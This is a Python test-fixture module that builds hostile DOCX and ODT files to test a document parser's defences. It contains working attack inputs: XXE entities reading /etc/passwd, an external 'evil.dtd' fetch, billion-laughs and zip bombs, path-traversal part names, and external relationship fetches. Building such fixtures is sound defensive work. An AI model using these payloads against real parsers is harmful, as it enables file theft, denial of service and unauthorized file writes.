"""Hostile DOCX and ODT files."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterable

from tests.documents.files import BODY, docx, odt, packed, paragraph, wordml

SECRET = "file:///etc/passwd"
AWAY = "http://127.0.0.1:48709/evil.dtd"
BOMB = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
HONEST = docx("".join(map(paragraph, BODY)))


def declaring(declarations: str, said: str, *, external: str = "") -> bytes:
    """A DOCX whose text declares entities."""
    body = wordml("document", f"<w:body>{paragraph(said)}</w:body>")
    return packed(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": f"<!DOCTYPE d {external}[{declarations}]>{body}"}
    )


def opendocument_declaring(declarations: str) -> bytes:
    """The same as an ODT."""
    with zipfile.ZipFile(io.BytesIO(odt("<text:p>&x;</text:p>"))) as honest:
        content = honest.read("content.xml").decode()
    declared = f"<!DOCTYPE d [{declarations}]>{content}"
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": declared})


def thousand_to_one(maker: str) -> bytes:
    """Forty megabytes of blanks that pack to forty kilobytes."""
    blanks = " " * 40_000_000
    return docx(paragraph(blanks)) if maker == "docx" else odt(f"<text:p>{blanks}</text:p>")


def lying_sizes() -> bytes:
    """A bomb whose directory says that every part is a hundred bytes long."""
    data = bytearray(docx(paragraph("a" * 60_000_000)))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 100)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def nested(depth: int = 12) -> bytes:
    """An archive in an archive, twelve deep, ten copies each."""
    data = b"a" * 1_000_000
    for _ in range(depth):
        data = _packed_bytes((f"{number}.zip", data) for number in range(10))
    return data


def _packed_bytes(parts: Iterable[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return buffer.getvalue()


def many_entries(data: bytes, count: int = 10_000) -> bytes:
    """A document with ten thousand more parts."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(count):
            archive.writestr(f"word/media/{number}.xml", "a")
    return buffer.getvalue()


def climbing() -> bytes:
    """Parts named to be written outside the folder."""
    return docx(paragraph("Stock clerk"), {"../../../../tmp/hostile-climbed": "a", "/tmp/hostile-climbed": "b"})


def fetching() -> bytes:
    """Pictures, templates and headers that lie elsewhere."""
    relations = "".join(
        f'<Relationship Id="r{n}" Type="t" Target="http://127.0.0.1:48709/{n}" TargetMode="External"/>'
        for n in range(50)
    )
    reference = '<w:headerReference w:type="default" r:id="r1"/>'
    return docx(
        paragraph("Stock clerk") + f"<w:sectPr>{reference}</w:sectPr>",
        {"word/_rels/document.xml.rels": f"<Relationships>{relations}</Relationships>"},
    )


def looping_styles(count: int = 2_000) -> bytes:
    """Styles each based on the next, the last on the first."""
    one = '<w:style w:styleId="s{}"><w:basedOn w:val="s{}"/></w:style>'
    styles = "".join(one.format(n, (n + 1) % count) for n in range(count))
    text = paragraph("Stock clerk", properties='<w:pStyle w:val="s0"/>')
    return docx(text * 2_000, {"word/styles.xml": wordml("styles", styles)})


def deep_word(depth: int = 200) -> bytes:
    """Tables in tables, as deep as the parser follows."""
    cell = "<w:tbl><w:tr><w:tc>"
    return docx(cell * (depth // 3) + paragraph("Stock clerk") + "</w:tc></w:tr></w:tbl>" * (depth // 3))


def deeper_word(depth: int = 50_000) -> bytes:
    """Fifty thousand levels."""
    return docx("<w:sdt>" * depth + paragraph("Stock clerk") + "</w:sdt>" * depth)


def deep_odt(depth: int = 200) -> bytes:
    """Spans in spans."""
    return odt("<text:p>" + "<text:span>" * depth + "Stock clerk" + "</text:span>" * depth + "</text:p>")


def deeper_odt(depth: int = 50_000) -> bytes:
    """Fifty thousand levels."""
    return odt("<text:p>" + "<text:span>" * depth + "Stock clerk" + "</text:span>" * depth + "</text:p>")


def repeated_blanks() -> bytes:
    """Elements that each stand for many blanks."""
    return odt("<text:p>" + '<text:s text:c="999999999"/>' * 100_000 + "Stock clerk</text:p>")


def many_runs(count: int = 300_000) -> bytes:
    """A paragraph of three hundred thousand runs."""
    return docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * count + "</w:p>")


def locked() -> bytes:
    """Parts that the directory calls encrypted."""
    data = bytearray(HONEST)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def with_pdf() -> bytes:
    """A DOCX with a PDF glued to its front."""
    return b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n" + HONEST


def with_web_page() -> bytes:
    """A DOCX with a web page glued to its front."""
    return b"<html><body>Stock clerk</body></html>" + HONEST


TABLE = {
    "entity of a file": ("docx", lambda: declaring(f'<!ENTITY x SYSTEM "{SECRET}">', "&x;")),
    "external DTD": ("docx", lambda: declaring("", "a", external=f'SYSTEM "{AWAY}" ')),
    "parameter entity": ("docx", lambda: declaring(f'<!ENTITY % p SYSTEM "{AWAY}"> %p;', "a")),
    "billion laughs": ("docx", lambda: declaring(f'<!ENTITY a0 "ha">{BOMB}', "&a9;")),
    "quadratic laughs": ("docx", lambda: declaring(f'<!ENTITY x "{"ha" * 50_000}">', "&x;" * 50_000)),
    "entity of a file, ODT": ("odt", lambda: opendocument_declaring(f'<!ENTITY x SYSTEM "{SECRET}">')),
    "thousand to one": ("docx", lambda: thousand_to_one("docx")),
    "thousand to one, ODT": ("odt", lambda: thousand_to_one("odt")),
    "lying sizes": ("docx", lying_sizes),
    "nested archives": ("docx", nested),
    "ten thousand parts": ("docx", lambda: many_entries(HONEST)),
    "ten thousand parts, ODT": ("odt", lambda: many_entries(odt("<text:p>Stock clerk</text:p>"))),
    "climbing names": ("docx", climbing),
    "parts elsewhere": ("docx", fetching),
    "looping styles": ("docx", looping_styles),
    "deep tables": ("docx", deep_word),
    "deeper markup": ("docx", deeper_word),
    "deep spans, ODT": ("odt", deep_odt),
    "deeper spans, ODT": ("odt", deeper_odt),
    "many blanks, ODT": ("odt", repeated_blanks),
    "many runs": ("docx", many_runs),
    "locked parts": ("docx", locked),
    "DOCX behind a PDF": ("docx", with_pdf),
    "DOCX behind a web page": ("docx", with_web_page),
    **{
        f"DOCX cut at {tenth} tenths": ("docx", lambda tenth=tenth: HONEST[: len(HONEST) * tenth // 10])
        for tenth in range(1, 10)
    },
}
